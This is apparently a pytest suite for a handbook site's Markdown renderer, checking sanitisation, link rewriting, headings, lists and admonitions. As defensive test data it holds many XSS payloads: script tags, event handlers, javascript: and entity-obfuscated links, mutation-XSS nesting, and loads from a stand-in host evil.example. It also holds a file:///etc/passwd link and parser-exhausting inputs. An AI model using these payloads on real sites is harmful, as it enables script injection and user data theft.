import time
from html.parser import HTMLParser
from pathlib import Path

import pytest
from tiny_site import site_of

from handbook.rendering.prose import html as prose
from handbook.rendering.prose.html import inline_html, plain_text, prose_html
from handbook.rendering.site import Site

SOURCE, HERE = "playbooks/webinar.md", "playbooks/webinar/index.md"
HARMLESS = {
    "a",
    "b",
    "br",
    "code",
    "details",
    "div",
    "em",
    "h2",
    "img",
    "input",
    "li",
    "p",
    "pre",
    "strong",
    "summary",
    "ul",
}
SCRIPTING = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<b onclick='alert(1)' onmouseover=alert(1)>x</b>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>' src=javascript:alert(1)></iframe>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<b style='background:url(https://evil.example/x)'>x</b>",
    "<object data=x></object><embed src=x>",
    "<form action=//evil.example><input type=submit onfocus=alert(1) autofocus></form>",
    "<base href=//evil.example><link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<img src=https://evil.example/x.png srcset='https://evil.example/y.png 2x'>",
    "![pixel](https://evil.example/x.png)",
    "![pixel](//evil.example/x.png)",
    "![pixel](data:image/png;base64,AAAA)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript&#58;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<\x01javascript:alert(1)>)",
    "[x](vbscript:msgbox) [x](data:text/html,<script>alert(1)</script>) [x](file:///etc/passwd)",
    "[x](//evil.example) [x](/\\evil.example) [x](\\\\evil.example) [x](<\t//evil.example>)",
    "<javascript:alert(1)>",
    "<a href=' javascript:alert(1)'>x</a>",
    "[x]: javascript:alert(1)\n\n[x]",
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    '!!! x" onclick="alert(1)\n    x',
    '```x" onclick="alert(1)\n</code></pre><script>alert(1)</script>\n```',
    "```{.x onclick=alert(1)}\nx\n```",
    "x {: onclick=alert(1) }",
    '??? note "</summary><script>alert(1)</script>"\n    x',
)
SWALLOWING = (
    "<div><b>",
    "<!-- ",
    "<textarea>",
    "<plaintext>",
    "<title>",
    "<table><tr><td>",
    "</div></article></body>",
    "<xmp>",
)
EXHAUSTING = (
    ">" * 10_000,
    "> " * 10_000,
    "[" * 10_000,
    "[" * 10_000 + "x" + "]" * 10_000,
    "![" * 10_000,
    "[a](" * 10_000,
    "[a](<" * 10_000,
    "*a " * 10_000,
    "- " * 10_000,
    "1. " * 10_000,
    "<![CDATA[" * 10_000,
    "<div>" * 10_000,
    "\n".join("  " * depth + "- a" for depth in range(1_000)),
    "a\n: b\n" * 100_000,
)


class Tags(HTMLParser):
    """Notes every tag with its attributes, and fails on one that closes what was never opened."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))
        if tag not in ("br", "img", "input", "hr"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag


@pytest.fixture
def site(tmp_path: Path) -> Site:
    return site_of(
        tmp_path,
        {"playbooks/templates/brief.md": "# Brief", "playbooks/pictures/booth.png": "", "docs/help.md": "# Help"},
    )


@pytest.mark.parametrize("text", SCRIPTING)
def test_nothing_in_prose_runs_or_asks_another_host(site: Site, text: str) -> None:
    for tag, attributes in Tags(prose_html(site, text, SOURCE, HERE)).found:
        assert tag in HARMLESS
        assert attributes.keys() <= {"href", "rel", "class", "alt", "type", "disabled", "checked"}
        assert attributes.get("href") is None


@pytest.mark.parametrize("text", SWALLOWING)
def test_an_open_tag_ends_with_the_prose(site: Site, text: str) -> None:
    assert Tags(prose_html(site, text, SOURCE, HERE)).open == []


@pytest.mark.parametrize("text", EXHAUSTING, ids=lambda text: repr(text[:8]))
def test_text_that_would_choke_markdown_is_shown_in_seconds(site: Site, text: str) -> None:
    start = time.process_time()
    html = prose_html(site, text, SOURCE, HERE)
    assert time.process_time() - start < 5
    assert html


def test_what_markdown_fails_on_is_shown_as_typed_and_does_no_harm_to_the_next(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(_text: str) -> str:
        raise RecursionError

    monkeypatch.setattr(prose._markdown(), "convert", fail)  # noqa: SLF001 -- no text fails in every version of Markdown
    assert prose_html(site, "<b> *x*", SOURCE, HERE) == "<pre>&lt;b&gt; *x*</pre>"
    assert prose_html(site, "*x*", SOURCE, HERE) == "<p><em>x</em></p>"


def test_links_to_files_become_links_to_their_pages(site: Site) -> None:
    links = {
        "templates/brief.md": "../templates/brief/",
        "../docs/help.md#ask": "../../help/#ask",
        "pictures/booth.png": "../pictures/booth.png",
        "webinar.md": "./",
        "#live": "#live",
        "https://example.com/a?b=c": "https://example.com/a?b=c",
        "HTTPS://example.com": "HTTPS://example.com",
        "mailto:tom@example.com": "mailto:tom@example.com",
        "../../outside.md": None,
        "missing.md": None,
        "/etc/passwd": None,
    }
    html = prose_html(site, " ".join(f"[x]({target})" for target in links), SOURCE, HERE)
    assert [attributes.get("href") for tag, attributes in Tags(html).found if tag == "a"] == [*links.values()]


def test_a_picture_of_the_handbook_is_shown(site: Site) -> None:
    html = prose_html(site, "![The booth](pictures/booth.png)", SOURCE, HERE)
    assert html == '<p><img alt="The booth" src="../pictures/booth.png"></p>'


def test_headings_stand_below_the_heading_of_their_place(site: Site) -> None:
    text = "# One\n\nTwo\n---\n\n##### Five"
    assert prose_html(site, text, SOURCE, HERE, below=3) == "<h4>One</h4>\n<h4>Two</h4>\n<h5>Five</h5>"


def test_lists_tables_code_and_boxes_are_kept(site: Site) -> None:
    text = "1. a\n\n    ```yaml\n    x: 1\n    ```\n\n- [x] b\n\n|c|\n|-:|\n|d|\n\n!!! warning\n    e\n"
    assert prose_html(site, text, SOURCE, HERE) == (
        '<ol>\n<li>\n<p>a</p>\n<pre class="highlight"><code class="language-yaml">x: 1</code></pre>\n</li>\n</ol>\n'
        '<ul class="task-list">\n'
        '<li class="task-list-item"><label><input type="checkbox" disabled="" checked=""> b</label></li>\n</ul>\n'
        '<table>\n<thead>\n<tr>\n<th style="text-align: right;">c</th>\n</tr>\n</thead>\n'
        '<tbody>\n<tr>\n<td style="text-align: right;">d</td>\n</tr>\n</tbody>\n</table>\n'
        '<div class="admonition warning">\n<p class="admonition-title">Warning</p>\n<p>e</p>\n</div>'
    )


def test_the_words_of_a_box_are_its_label_and_what_stands_below_is_not(site: Site) -> None:
    html = prose_html(site, "- [ ] a **b**\n\n    c\n\n- [ ] d\n\n    - [ ] e\n", SOURCE, HERE)
    box = '<input type="checkbox" disabled="">'
    assert html == (
        '<ul class="task-list">\n'
        f'<li class="task-list-item">\n<p><label>{box} a <strong>b</strong></label></p>\n<p>c</p>\n</li>\n'
        f'<li class="task-list-item">\n<p><label>{box} d</label></p>\n<ul class="task-list">\n'
        f'<li class="task-list-item"><label>{box} e</label></li>\n</ul>\n</li>\n</ul>'
    )


def test_a_box_without_title_is_called_by_its_kind_in_the_readers_language(tmp_path: Path) -> None:
    site = site_of(tmp_path, language="fr")
    html = prose_html(site, '!!! warning\n    a\n\n??? tip\n    b\n\n!!! tip "Warning"\n    c\n', SOURCE, HERE)
    assert html == (
        '<div class="admonition warning">\n<p class="admonition-title">Attention</p>\n<p>a</p>\n</div>\n'
        '<details class="tip">\n<summary>Astuce</summary>\n<p>b</p>\n</details>\n'
        '<div class="admonition tip">\n<p class="admonition-title">Warning</p>\n<p>c</p>\n</div>'
    )


@pytest.mark.parametrize(
    ("title", "html", "plain"),
    [
        ("Choose the topic", "Choose the topic", "Choose the topic"),
        ("Use `git` *well*", "Use <code>git</code> <em>well</em>", "Use git well"),
        ("1. Learn *C#*", "1. Learn <em>C#</em>", "1. Learn C#"),
        ("Learn __C__ #", "Learn <strong>C</strong> #", "Learn C #"),
        ("> a_b_c & 'd'", "&gt; a_b_c &amp; 'd'", "> a_b_c & 'd'"),
        ("R&amp;D [here](javascript:x)", "R&amp;D here", "R&D here"),
        ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>"),
        (
            "`<b>` <img src=x onerror=y>",
            "<code>&lt;b&gt;</code> &lt;img src=x onerror=y&gt;",
            "<b> <img src=x onerror=y>",
        ),
        ("two\nlines *x*", "two lines <em>x</em>", "two lines x"),
    ],
)
def test_a_heading_keeps_code_and_emphasis_and_shows_all_else_as_text(title: str, html: str, plain: str) -> None:
    assert (inline_html(title), plain_text(title)) == (html, plain)


def test_a_heading_of_brackets_is_shown_as_typed() -> None:
    assert inline_html("[" * 10_000) == "[" * 10_000
